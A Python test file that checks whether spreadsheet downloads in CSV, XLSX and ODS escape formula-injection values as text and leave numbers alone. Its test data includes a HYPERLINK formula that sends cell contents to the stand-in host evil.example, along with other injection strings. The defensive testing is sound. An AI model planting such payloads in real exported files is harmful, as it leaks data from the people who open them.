"""Downloads never turn text into formulas: a cell a spreadsheet program would evaluate
(= + - @, a tab or a carriage return first) is written as text; numbers stay numbers."""

import csv
import io
from decimal import Decimal

from odfdo import Document
from openpyxl import load_workbook

from servq.core.spreadsheets import Sheet, sheets_as, spreadsheet_text

HOSTILE = ['=HYPERLINK("https://evil.example/?"&B2,"點此")', "+1+1", "-2+3", "@SUM(A1)",
           "\t=1", "\r=1"]


def sheet() -> Sheet:
    return Sheet("測試", ["主旨", "件數", "比率"],
                 [[text, n, Decimal("-1.5")] for n, text in enumerate(HOSTILE, start=-1)])


def test_it_escapes_text_that_would_be_a_formula_and_nothing_else():
    assert [spreadsheet_text(t) for t in HOSTILE] == ["'" + t for t in HOSTILE]
    assert [spreadsheet_text(v) for v in ["陳情", "a=b", "", None, -3, Decimal("-1.5")]] == [
        "陳情", "a=b", "", None, -3, Decimal("-1.5")]


def test_it_writes_csv_text_cells_as_text():
    rows = list(csv.reader(io.StringIO(sheets_as("csv", [sheet()]).decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:]] == ["'" + t for t in HOSTILE]
    assert [row[1] for row in rows[1:]] == ["-1", "0", "1", "2", "3", "4"]


def test_it_writes_xlsx_text_cells_as_text_and_numbers_as_numbers():
    workbook = load_workbook(io.BytesIO(sheets_as("xlsx", [sheet()])))
    rows = list(workbook.active.iter_rows(min_row=2))
    assert all(row[0].data_type == "s" for row in rows)
    assert [row[0].value for row in rows] == ["'" + t for t in HOSTILE]
    assert [(row[1].value, row[2].value) for row in rows][0] == (-1, -1.5)


def test_it_writes_ods_text_cells_as_text(tmp_path):
    path = tmp_path / "t.ods"
    path.write_bytes(sheets_as("ods", [sheet()]))
    table = Document(path).body.get_table(0)
    values = [table.get_values()[n] for n in range(1, len(HOSTILE) + 1)]
    assert [row[0] for row in values] == ["'" + t for t in HOSTILE]
    assert values[0][1] == -1
